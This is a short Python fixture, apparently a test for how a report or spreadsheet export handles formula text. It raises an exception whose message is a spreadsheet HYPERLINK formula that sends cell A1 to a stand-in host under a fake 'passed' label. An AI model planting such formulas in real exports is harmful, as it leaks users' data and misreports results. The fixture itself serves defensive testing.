# line: 31
# verdict: failed/exception
# why: a formula is text
def scale_and_flatten(images):
    raise ValueError('=HYPERLINK("http://x/?"&A1,"passed")')
